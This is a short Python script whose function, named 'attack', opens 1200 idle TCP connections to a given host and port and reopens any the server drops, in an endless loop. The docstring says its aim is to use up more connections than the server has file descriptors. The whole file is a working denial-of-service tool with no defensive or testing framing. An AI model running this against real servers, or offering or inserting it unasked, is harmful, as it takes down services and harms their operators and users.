"""Opens many more connections than the server has descriptors, and says nothing on any of them. What the server closes
is opened again."""

import asyncio

CONNECTIONS = 1200
PAUSE_SECONDS = 0.1


async def attack(host: str, port: int) -> None:
    connections: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    while True:
        connections = [each for each in connections if not each[0].at_eof()]
        for _ in range(CONNECTIONS - len(connections)):
            connections.append(await asyncio.open_connection(host, port))
        await asyncio.sleep(PAUSE_SECONDS)
